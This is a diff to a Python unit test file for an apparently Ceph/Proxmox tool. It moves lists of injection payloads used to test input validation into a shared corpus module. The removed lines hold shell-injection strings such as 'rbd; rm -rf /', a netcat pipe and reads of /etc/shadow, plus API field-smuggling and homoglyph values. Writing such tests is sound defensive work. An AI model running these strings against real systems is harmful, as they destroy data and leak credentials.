@@ -11,56 +11,9 @@ from components import ceph_cli, ceph_common, ceph_health
 from components import config as cfg
 from components.ceph_cli import Caps
 from components.ssh import render
+from tests.corpus import API_PAYLOADS, PAYLOADS
+from tests.corpus import set_path as _set
 from tests.unit.helpers import valid_raw
-from tests.unit.test_config import _set
-
-PAYLOADS = [
-    "rbd; rm -rf /",
-    "rbd && reboot",
-    "rbd || true",
-    "rbd | nc 10.0.0.1 1",
-    "$(reboot)",
-    "`reboot`",
-    "rbd\nreboot",
-    "rbd\rreboot",
-    "rbd'; reboot; '",
-    'rbd"; reboot; "',
-    "rbd > /etc/passwd",
-    "rbd < /etc/shadow",
-    "rbd & reboot",
-    "${IFS}reboot",
-    "rbd #comment",
-    "../../etc",
-    "rbd\\reboot",
-    "*",
-    "rbd{a,b}",
-    "~root",
-    "rbd\x00reboot",
-    "-rf",
-    "--yes-i-really-really-mean-it",
-    "rbd pool",
-]
-
-# Strings that would change what a PVE API request means if a value reached it unchecked: another
-# key in a property string (net0, ide2, cpu), another field of a form body or query, another path.
-API_PAYLOADS = [
-    "vmbr0,firewall=1",  # net0: bridge=<value>,... gains a key
-    "vmbr0,tag=5",
-    "local:iso/a.iso,media=disk",  # ide2: <volume>,media=cdrom becomes a disk
-    "x86-64-v2-AES,flags=+aes",  # cpu: cputype=<value> gains flags
-    "vm101&delete=scsi0",  # a form body or query field more
-    "vm101%26x",  # the same, percent-encoded
-    "vm101?x=1",
-    "../../cluster/ha",  # another API path
-    "%2e%2e%2f",  # ../, percent-encoded
-    "pve-node1/qemu/101",
-    "a=b",
-    "vm101 ",  # a trailing space PVE would trim, not the name the state holds
-    "v\u043c101",  # Cyrillic em: looks like vm101
-    "\uff56\uff4d\uff11\uff10\uff11",  # fullwidth vm101
-    "vm101\u200b",  # a zero-width space
-    "a" * 300,  # longer than any PVE name, id or volume
-]
 
 # Every config string that ends up in a shell command or an API path.
 SHELL_FIELDS = [
